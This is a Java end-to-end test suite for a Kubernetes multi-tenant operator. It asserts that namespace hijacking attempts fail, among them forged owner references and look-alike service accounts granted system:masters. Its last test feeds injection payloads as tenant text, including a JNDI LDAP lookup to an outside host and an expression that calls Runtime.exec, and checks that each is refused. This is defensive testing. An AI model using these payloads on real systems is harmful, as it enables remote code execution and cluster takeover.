package dev.yunzhi.e2e.isolation;

import static dev.yunzhi.e2e.guard.Refusals.assertForbidden;
import static dev.yunzhi.e2e.isolation.Trying.may;
import static dev.yunzhi.e2e.isolation.Trying.refused;
import static dev.yunzhi.e2e.isolation.TwoTenants.CLINIC;
import static dev.yunzhi.e2e.isolation.TwoTenants.WEB;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.yunzhi.api.v1alpha1.Tenant;
import dev.yunzhi.e2e.operator.OperatorEstate;
import io.fabric8.kubernetes.api.model.Namespace;
import io.fabric8.kubernetes.api.model.NamespaceBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ways in which namespaces were taken over elsewhere; none leads anywhere here. */
@OnTwoTenants
class HijackTest {

  private final TwoTenants tenants;

  HijackTest(TwoTenants tenants) {
    this.tenants = tenants;
  }

  /** RBAC refuses an owner already; the guard's own tests show who else is refused. */
  @Test
  void anOwnerHasNoRightOnNamespacesByAnyWay() {
    for (String verb : List.of("create", "update", "patch", "delete")) {
      for (String resource : List.of("namespaces", "namespaces/status", "namespaces/finalize")) {
        for (String name : List.of(WEB, CLINIC, "kube-system")) {
          assertThat(may(tenants.lily(), verb, name, resource, name)).as(verb + name).isFalse();
        }
      }
    }
    assertThat(may(tenants.lily(), "get", WEB, "namespaces", WEB)).isTrue();
  }

  /** An owner reference makes nothing a tenant's: labels do, and only the operator sets those. */
  @Test
  void aNamespaceThatNamesATenantAsItsOwnerIsNotTheTenants() {
    Tenant tenant = tenants.estate().get(Tenant.class, "lake-permits");
    Namespace forged =
        new NamespaceBuilder()
            .withNewMetadata()
            .withName("lake-permits-forged")
            .addNewOwnerReference()
            .withApiVersion("yunzhi.dev/v1alpha1")
            .withKind("Tenant")
            .withName(tenant.getMetadata().getName())
            .withUid(tenant.getMetadata().getUid())
            .endOwnerReference()
            .endMetadata()
            .build();
    KubernetesClient administrator = tenants.administrator();
    administrator.resource(forged).create();
    try {
      await()
          .during(Duration.ofSeconds(5))
          .atMost(OperatorEstate.LIMIT)
          .until(
              () ->
                  !administrator
                          .namespaces()
                          .withName("lake-permits-forged")
                          .get()
                          .getMetadata()
                          .getLabels()
                          .containsKey("yunzhi.dev/tenant")
                      && administrator
                          .rbac()
                          .roleBindings()
                          .inNamespace("lake-permits-forged")
                          .list()
                          .getItems()
                          .isEmpty());
      assertThat(may(tenants.lily(), "list", "lake-permits-forged", "pods", null)).isFalse();
      assertThat(tenants.estate().get(Tenant.class, "lake-permits").getStatus().namespaces())
          .extracting(n -> n.name())
          .doesNotContain("lake-permits-forged");
    } finally {
      administrator.resource(forged).delete();
    }
  }

  /** Each has every right that RBAC can give, and is still not the operator. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "system:serviceaccount:lake-permits-web:tenant-operator",
        "system:serviceaccount:yunzhi-system:tenant-operator-2",
        "system:serviceaccount:yunzhi-system-2:tenant-operator",
        "system:serviceaccount:yunzhi-system:control-plane",
        "system:serviceaccount:kube-system:namespace-controller-2",
        "tenant-operator",
        "yunzhi-system:tenant-operator",
        "System:ServiceAccount:yunzhi-system:tenant-operator"
      })
  void whoIsOnlyCalledLikeTheOperatorIsNotTheOperator(String lookAlike) {
    try (KubernetesClient who =
        tenants
            .estate()
            .cluster()
            .clientFor(lookAlike, "system:masters", "system:serviceaccounts:yunzhi-system")) {
      assertForbidden(
          () -> who.resourceQuotas().inNamespace(WEB).withName("yunzhi").delete(),
          "ResourceQuota yunzhi is managed by Yunzhi");
      assertForbidden(
          () ->
              who.namespaces()
                  .withName(WEB)
                  .edit(
                      n ->
                          new NamespaceBuilder(n)
                              .editMetadata()
                              .addToLabels("yunzhi.dev/tenant", "hill-clinic")
                              .endMetadata()
                              .build()),
          "only the operator of Yunzhi may");
      assertForbidden(
          () -> who.namespaces().withName(WEB).delete(), "only the operator of Yunzhi may delete");
      // Nor is it exempt from the policies.
      refused(who, Pods.with(WEB, s -> s.withHostPID(true)), "SEC-016");
    }
  }

  /** What people write is data to policies and messages, never a program or a template. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{ .Values.image }}",
        "${jndi:ldap://example.com/a}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "%s%n%v",
        "\" | input.context"
      })
  void textOfTenantsIsNeverEvaluated(String text) {
    refused(
        tenants.lily(),
        Pods.withContainer(WEB, c -> c.withImage(text)),
        "SEC-019",
        // As Rego quotes it.
        "image \"" + text.replace("\"", "\\\"") + "\" has no digest");
  }
}
